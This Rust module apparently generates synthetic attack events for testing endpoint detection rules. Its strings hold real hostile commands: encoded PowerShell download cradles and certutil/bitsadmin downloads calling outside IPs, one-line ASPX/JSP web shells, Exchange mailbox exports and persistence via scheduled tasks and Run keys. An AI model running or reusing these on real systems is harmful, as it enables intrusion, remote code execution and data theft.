//! Injected attack scenarios on endpoint telemetry: what each kind does on which hosts,
//! planned over the time range and played into a host's events through [`Ctx`].
//!
//! The rules a scenario must raise are not decided here but when its events are written
//! (see [`crate::expect`]): they depend on the host's schema and on earlier file events.

use crate::activity::{Ctx, Remote, make_proc};
use crate::catalog::{self as c, Bin};
use crate::host::{Host, Role};
use crate::model::{Proc, RENAMED};
use crate::rng::Rng;
use crate::text::Text;
use crate::time::{MINUTE, SECOND};

/// A kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum ScenarioKind {
    /// A web server starts reconnaissance commands (whoami, ipconfig, net, systeminfo, nltest).
    WebRecon,
    /// A web shell dropped in a web root (by the worker or by PowerShell `Set-Content`),
    /// then used minutes later.
    WebshellDrop,
    /// An Exchange application-pool worker starts PowerShell or cmd, also renamed, after a
    /// ProxyLogon-style drop under the front end.
    ExchangeWorkerShell,
    /// php-cgi, java or Tomcat downloads a payload with certutil or bitsadmin.
    WebDownload,
    /// A web server creates a scheduled task or a Run key.
    WebPersistence,
    /// Log4Shell JNDI lookups in an access log (plain and obfuscated, headers and URIs).
    Log4Shell,
    /// SQL injection in query strings of an access log.
    SqlInjection,
}

impl ScenarioKind {
    pub const ENDPOINT: [ScenarioKind; 5] = [
        ScenarioKind::WebRecon,
        ScenarioKind::WebshellDrop,
        ScenarioKind::ExchangeWorkerShell,
        ScenarioKind::WebDownload,
        ScenarioKind::WebPersistence,
    ];

    pub fn key(self) -> &'static str {
        match self {
            ScenarioKind::WebRecon => "web_recon",
            ScenarioKind::WebshellDrop => "webshell_drop",
            ScenarioKind::ExchangeWorkerShell => "exchange_worker_shell",
            ScenarioKind::WebDownload => "web_download",
            ScenarioKind::WebPersistence => "web_persistence",
            ScenarioKind::Log4Shell => "log4shell",
            ScenarioKind::SqlInjection => "sql_injection",
        }
    }

    /// Whether a host of `role` can be the target.
    pub fn targets(self, role: Role) -> bool {
        match self {
            ScenarioKind::WebRecon | ScenarioKind::WebPersistence => role.is_web(),
            ScenarioKind::WebshellDrop => matches!(role, Role::Iis | Role::Tomcat),
            ScenarioKind::ExchangeWorkerShell => role == Role::Exchange,
            ScenarioKind::WebDownload => matches!(role, Role::Iis | Role::Apache | Role::Tomcat),
            ScenarioKind::Log4Shell | ScenarioKind::SqlInjection => false,
        }
    }
}

/// A scenario placed on a host at a time.
#[derive(Clone, Copy, Debug)]
pub struct Planned {
    pub index: u32,
    pub kind: ScenarioKind,
    pub host: u32,
    pub time: i64,
}

/// Plans `count` scenarios over `[start, end)`: kinds in turn (those with a target in the
/// fleet), each on a random target host, at a random time that leaves room for the
/// scenario to finish before `end`.
pub fn plan(hosts: &[Host], count: usize, start: i64, end: i64, seed: u64) -> Vec<Planned> {
    let mut rng = Rng::derive(seed, 0x7363_656e);
    let kinds: Vec<ScenarioKind> = ScenarioKind::ENDPOINT
        .into_iter()
        .filter(|k| hosts.iter().any(|h| k.targets(h.role)))
        .collect();
    if kinds.is_empty() {
        return Vec::new();
    }
    let span = end - start;
    let earliest = start + span / 30;
    let latest = (end - 2 * 60 * MINUTE).max(earliest + span / 2).min(end);
    (0..count)
        .map(|i| {
            let kind = kinds[i % kinds.len()];
            let targets: Vec<&Host> = hosts.iter().filter(|h| kind.targets(h.role)).collect();
            let host = rng.pick(&targets).index;
            let time = earliest + rng.below((latest - earliest).max(1) as u64) as i64;
            Planned {
                index: i as u32,
                kind,
                host,
                time,
            }
        })
        .collect()
}

/// Plays a scenario into `cx` (whose cursor is the scenario's start); returns a note for
/// the ground truth.
pub fn play(kind: ScenarioKind, cx: &mut Ctx<'_>) -> String {
    match kind {
        ScenarioKind::WebRecon => web_recon(cx),
        ScenarioKind::WebshellDrop => webshell_drop(cx),
        ScenarioKind::ExchangeWorkerShell => exchange_worker_shell(cx),
        ScenarioKind::WebDownload => web_download(cx),
        ScenarioKind::WebPersistence => web_persistence(cx),
        ScenarioKind::Log4Shell | ScenarioKind::SqlInjection => String::new(),
    }
}

/// The web server process an attacker's request runs in.
fn web_process(cx: &mut Ctx<'_>) -> Proc {
    let web = &cx.procs.web;
    match cx.host.role {
        // The Exchange workers, not the DefaultAppPool one.
        Role::Exchange => web[cx.rng.below(web.len() as u64 - 1) as usize],
        // php-cgi runs the PHP code, httpd rarely.
        Role::Apache => web[if cx.rng.chance(0.8) { 1 } else { 0 }],
        _ => web[cx.rng.below(web.len() as u64) as usize],
    }
}

/// How each web stack wraps a command in a shell (`{}` is the command).
fn shell_wrap(parent: &Proc) -> &'static str {
    match parent.bin.name() {
        "node.exe" => r#"C:\Windows\system32\cmd.exe /d /s /c "{}""#,
        "php-cgi.exe" | "httpd.exe" => r#"C:\Windows\system32\cmd.exe /s /c "{}""#,
        "w3wp.exe" => r#""c:\windows\system32\cmd.exe" /c {}"#,
        _ => "cmd.exe /c {}",
    }
}

/// Starts `cmd` from `parent`, through a shell when `via_shell`; returns the tool and the
/// shell.
fn run_tool(
    cx: &mut Ctx<'_>,
    parent: &Proc,
    bin: &'static Bin,
    cmd: Text,
    via_shell: bool,
) -> (Proc, Option<Proc>) {
    let user = parent.user;
    let shell =
        via_shell.then(|| cx.start_text(parent, &c::CMD, cmd.wrapped(shell_wrap(parent)), user));
    let launcher = shell.unwrap_or(*parent);
    let tool = cx.start_text(&launcher, bin, cmd, user);
    (tool, shell)
}

/// Ends a tool started by [`run_tool`] and its shell.
fn end_tool(cx: &mut Ctx<'_>, parent: &Proc, tool: &Proc, shell: Option<Proc>) {
    cx.end(&shell.unwrap_or(*parent), tool);
    if let Some(shell) = shell {
        cx.end(parent, &shell);
    }
}

const RECON: [(&Bin, &str); 10] = [
    (&c::WHOAMI, "whoami"),
    (&c::WHOAMI, "whoami /all"),
    (&c::WHOAMI, "whoami /priv"),
    (&c::IPCONFIG, "ipconfig /all"),
    (&c::NET, "net user"),
    (&c::NET, "net localgroup administrators"),
    (&c::NET, r#"net group "domain admins" /domain"#),
    (&c::SYSTEMINFO, "systeminfo"),
    (&c::NLTEST, "nltest /domain_trusts"),
    (&c::NLTEST, "nltest /dclist:corp.example"),
];

/// Runs one recon command from `parent`, directly or through a shell; returns what ran.
fn recon_command(cx: &mut Ctx<'_>, parent: &Proc, via_shell: bool) -> &'static str {
    let (bin, line) = *cx.rng.pick(&RECON);
    let (tool, shell) = run_tool(cx, parent, bin, Text::lit(line), via_shell);
    if std::ptr::eq(bin, &c::NET) {
        let net1 = cx.start(
            &tool,
            &c::NET1,
            r"C:\Windows\system32\net1 {a}",
            &line[4..],
            parent.user,
        );
        cx.wait_ms(20, 400);
        cx.end(&tool, &net1);
    }
    cx.wait_ms(50, 1_500);
    end_tool(cx, parent, &tool, shell);
    line
}

fn web_recon(cx: &mut Ctx<'_>) -> String {
    let parent = web_process(cx);
    let via_shell = cx.rng.chance(0.6);
    let mut ran = Vec::new();
    for _ in 0..cx.rng.range(1, 3) {
        ran.push(recon_command(cx, &parent, via_shell));
        cx.wait_s(5, 240);
    }
    format!(
        "{} ({}) runs {}{}",
        parent.bin.name(),
        parent.user.name,
        ran.join("; "),
        if via_shell { " through cmd" } else { "" }
    )
}

const ENCODED: [&str; 3] = [
    "JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwAkAGMALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAGEAJwApAHwASQBFAFgA",
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8ANAA1AC4AMQAzADcALgAyADEALgA5AC8AcwAnACkA",
    "RwBlAHQALQBQAHIAbwBjAGUAcwBzACAAfAAgAE8AdQB0AC0ARgBpAGwAZQAgAEMAOgBcAFcAaQBuAGQAbwB3AHMAXABUAGUAbQBwAFwAcAAuAHQAeAB0AA==",
];

/// The web shell in use: a shell (and its tool) from the web server.
fn use_web_shell(cx: &mut Ctx<'_>, server: &Proc) -> &'static str {
    if cx.rng.chance(0.3) {
        let encoded = *cx.rng.pick(&ENCODED);
        let ps = cx.start(
            server,
            &c::POWERSHELL,
            r#"powershell.exe -nop -w hidden -enc {a}"#,
            encoded,
            server.user,
        );
        cx.wait_s(1, 20);
        cx.end(server, &ps);
        "powershell -enc"
    } else {
        recon_command(cx, server, true)
    }
}

fn webshell_drop(cx: &mut Ctx<'_>) -> String {
    let server = web_process(cx);
    let (root, name_tpl): (&'static str, &'static str) = if cx.host.role == Role::Tomcat {
        (
            r"C:\Program Files\Apache Software Foundation\Tomcat 9.0\webapps\ROOT",
            r"{a}\{=shell|cmd|upload|status|test1}.jsp",
        )
    } else {
        (
            crate::activity::site_of(&server),
            r"{a}\{=aspnet_client\shell|aspnet_client\system_web\help|uploads\error|uploads\signin1|App_Themes\default}.aspx",
        )
    };
    let seed = cx.seed();
    let path = Text::tpl(name_tpl, root, seed);
    let by = match cx.rng.below(3) {
        0 => {
            cx.file_text(&server, path);
            format!("{} writes", server.bin.name())
        }
        pick => {
            // PowerShell `Set-Content`, from the web server itself or from a remote session.
            let parent = if pick == 1 {
                server
            } else {
                let services = cx.procs.services;
                let user = cx.procs.user;
                cx.start(
                    &services,
                    &c::WSMPROVHOST,
                    r"C:\Windows\system32\wsmprovhost.exe -Embedding",
                    "",
                    user,
                )
            };
            let cmd = Text::tpl(
                r#"powershell.exe -nop -c "Set-Content -Path '{a}\{=aspnet_client\shell|aspnet_client\system_web\help|uploads\error|uploads\signin1|App_Themes\default}.aspx' -Value '<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>'""#,
                root,
                seed,
            );
            let cmd = if cx.host.role == Role::Tomcat {
                Text::tpl(
                    r#"powershell.exe -nop -c "Set-Content -Path '{a}\{=shell|cmd|upload|status|test1}.jsp' -Value '<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>'""#,
                    root,
                    seed,
                )
            } else {
                cmd
            };
            let ps = cx.start_text(&parent, &c::POWERSHELL, cmd, parent.user);
            cx.wait_ms(300, 2_000);
            cx.file_text(&ps, path);
            cx.wait_ms(100, 900);
            cx.end(&parent, &ps);
            format!(
                "PowerShell Set-Content (parent {}) writes",
                parent.bin.name()
            )
        }
    };
    // Used minutes later: mostly within the correlation's hour, sometimes not.
    let inside = cx.rng.chance(0.7);
    let delay = if inside {
        cx.rng.range(2, 50)
    } else {
        cx.rng.range(63, 95)
    };
    cx.t += delay as i64 * MINUTE + cx.rng.below(60) as i64 * SECOND;
    let mut used = Vec::new();
    for _ in 0..cx.rng.range(1, 3) {
        used.push(use_web_shell(cx, &server));
        cx.wait_s(10, 300);
    }
    format!(
        "{by} {}; {} uses it {delay} min later: {}",
        path.render_string(),
        server.bin.name(),
        used.join("; ")
    )
}

const EXCHANGE_PS: [&str; 4] = [
    r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -c "Get-Mailbox -ResultSize Unlimited | Export-Csv C:\inetpub\wwwroot\aspnet_client\m.csv""#,
    r#"powershell.exe -nop -w hidden -c "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxExportRequest -Mailbox {=ceo|cfo|legal} -FilePath \\localhost\c$\inetpub\wwwroot\aspnet_client\{x6}.pst""#,
    r#"powershell.exe -nop -exec bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://{ip}/p.ps1')""#,
    r#"powershell -ep bypass -c "Compress-Archive -Path 'C:\Program Files\Microsoft\Exchange Server\V15\Logging\HttpProxy' -DestinationPath C:\ProgramData\{x8}.zip""#,
];

fn exchange_worker_shell(cx: &mut Ctx<'_>) -> String {
    let mut note = String::new();
    let ecp = cx.procs.web[1];
    if cx.rng.chance(0.6) {
        let path = Text::tpl(
            r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\{=errorEE|ohyeah|shell|RedirSuiteServerProxy1|logout1}.aspx",
            "",
            cx.seed(),
        );
        cx.file_text(&ecp, path);
        let delay = if cx.rng.chance(0.75) {
            cx.rng.range(1, 55)
        } else {
            cx.rng.range(64, 100)
        };
        cx.t += delay as i64 * MINUTE + cx.rng.below(60) as i64 * SECOND;
        note = format!(
            "{} written by the ECP worker, {delay} min later ",
            path.render_string()
        );
    }
    let worker = cx.procs.web[cx.rng.below(3) as usize];
    let pool = worker.cmd.arg();
    let variant = cx.rng.below(3);
    let what = match variant {
        0 => {
            let cmd = *cx.rng.pick(&EXCHANGE_PS);
            let ps = cx.start(&worker, &c::POWERSHELL, cmd, "", worker.user);
            cx.wait_s(2, 90);
            cx.end(&worker, &ps);
            "PowerShell"
        }
        1 => {
            // A renamed PowerShell: only its PE original file name gives it away. The
            // command line starts with the image path, as Windows writes it.
            let seed = cx.seed();
            let image = Text::tpl(RENAMED_IMAGE, "", seed);
            let cmd = Text::tpl(RENAMED_CMD, "", seed);
            let renamed = make_proc(
                cx.rng,
                &worker,
                &c::POWERSHELL,
                image,
                cmd,
                worker.cwd,
                worker.user,
                RENAMED,
            );
            cx.launch(&worker, &renamed);
            cx.wait_s(2, 60);
            cx.end(&worker, &renamed);
            "a renamed PowerShell"
        }
        _ => {
            recon_command(cx, &worker, true);
            "cmd"
        }
    };
    format!("{note}the {pool} worker starts {what}")
}

const RENAMED_IMAGE: &str =
    r"C:\ProgramData\Microsoft\{=msupdate|wmiadap32|svcmon|ExchangeSvc}.exe";
/// Begins with the same placeholder as [`RENAMED_IMAGE`], so that both agree.
const RENAMED_CMD: &str = r"C:\ProgramData\Microsoft\{=msupdate|wmiadap32|svcmon|ExchangeSvc}.exe -nop -w hidden -enc {=JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQA|SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA}";

/// Where downloads come from.
const STAGING: [(&str, [u8; 4]); 4] = [
    ("45.137.21.9", [45, 137, 21, 9]),
    ("185.220.101.47", [185, 220, 101, 47]),
    ("91.215.85.12", [91, 215, 85, 12]),
    ("194.26.29.113", [194, 26, 29, 113]),
];

fn web_download(cx: &mut Ctx<'_>) -> String {
    let server = web_process(cx);
    let (ip_text, ip) = *cx.rng.pick(&STAGING);
    let seed = cx.seed();
    let certutil = cx.rng.chance(0.6);
    let (bin, line, file, port) = if certutil {
        (
            &c::CERTUTIL,
            r"certutil.exe -urlcache -split -f http://{a}/{=update|svc|agent|css}.exe C:\Windows\Temp\{1}.exe",
            r"C:\Windows\Temp\{=update|svc|agent|css}.exe",
            80,
        )
    } else {
        (
            &c::BITSADMIN,
            r"bitsadmin /transfer {=update|svc|agent|css} /download /priority high http://{a}:8080/{1}.dll C:\ProgramData\{1}.dll",
            r"C:\ProgramData\{=update|svc|agent|css}.dll",
            8080,
        )
    };
    let via_shell = cx.rng.chance(0.4);
    let (tool, shell) = run_tool(cx, &server, bin, Text::tpl(line, ip_text, seed), via_shell);
    let remote = Remote { name: "", ip, port };
    cx.wait_ms(100, 1_500);
    cx.connect(&tool, &remote);
    cx.wait_ms(300, 6_000);
    cx.file_text(&tool, Text::tpl(file, "", seed));
    end_tool(cx, &server, &tool, shell);
    format!(
        "{} downloads with {} from {ip_text}{}",
        server.bin.name(),
        bin.name(),
        if via_shell { " through cmd" } else { "" }
    )
}

fn web_persistence(cx: &mut Ctx<'_>) -> String {
    let server = web_process(cx);
    let (bin, line) = if cx.rng.chance(0.55) {
        (
            &c::SCHTASKS,
            r#"schtasks /create /sc minute /mo {n5-30} /tn "{=Microsoft\Windows\UpdateOrchestrator\USO_Broker|GoogleUpdateTaskMachineCore2|SystemHealthCheck}" /tr "{=powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://45.137.21.9/a')|C:\ProgramData\svcmon.exe}" /ru SYSTEM /f"#,
        )
    } else {
        (
            &c::REG,
            r#"reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v {=OneDriveUpdate|SecurityHealth2|WinDefendSvc} /t REG_SZ /d "C:\ProgramData\{=svcmon|msupdate|agent}.exe" /f"#,
        )
    };
    let via_shell = cx.rng.chance(0.4);
    let seed = cx.seed();
    let (tool, shell) = run_tool(cx, &server, bin, Text::tpl(line, "", seed), via_shell);
    cx.wait_ms(50, 800);
    end_tool(cx, &server, &tool, shell);
    format!(
        "{} runs {}{}",
        server.bin.name(),
        bin.name(),
        if via_shell { " through cmd" } else { "" }
    )
}
